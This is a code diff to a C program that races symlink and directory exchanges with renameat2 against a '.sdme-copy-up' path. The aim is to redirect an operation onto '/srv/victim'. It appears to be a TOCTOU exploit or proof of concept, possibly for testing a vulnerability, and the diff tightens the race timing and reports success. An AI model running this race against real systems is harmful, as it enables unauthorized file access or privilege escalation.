@@ -11,6 +11,12 @@
 #include <time.h>
 #include <unistd.h>
 
+static long now(void) {
+    struct timespec time;
+    clock_gettime(CLOCK_MONOTONIC, &time);
+    return time.tv_sec * 1000 + time.tv_nsec / 1000000;
+}
+
 static void empty(int directory) {
     DIR *open = fdopendir(openat(directory, ".", O_RDONLY | O_DIRECTORY));
     if (!open)
@@ -49,18 +55,21 @@ int main(int count, char **arguments) {
         empty(here);
         if (round % 2) {
             mkdir(".sdme-copy-up", 0777);
-            for (time_t end = time(NULL) + 2; time(NULL) < end;) {
+            for (long end = now() + 300; now() < end;) {
                 mkdir("x", 0777);
                 symlink("/srv/victim", "x/content");
                 if (!access(".sdme-copy-up/content", F_OK) && !renameat2(AT_FDCWD, "x", AT_FDCWD, ".sdme-copy-up", RENAME_EXCHANGE))
                     break;
             }
         } else {
-            for (time_t end = time(NULL) + 2; time(NULL) < end;) {
+            for (long end = now() + 2000; now() < end;) {
                 if (access("sub", F_OK))
                     continue;
                 symlink("/srv/victim", "x");
-                renameat2(AT_FDCWD, "x", AT_FDCWD, "sub", RENAME_EXCHANGE);
+                if (!renameat2(AT_FDCWD, "x", AT_FDCWD, "sub", RENAME_EXCHANGE)) {
+                    puts("exchanged");
+                    fflush(stdout);
+                }
                 break;
             }
         }
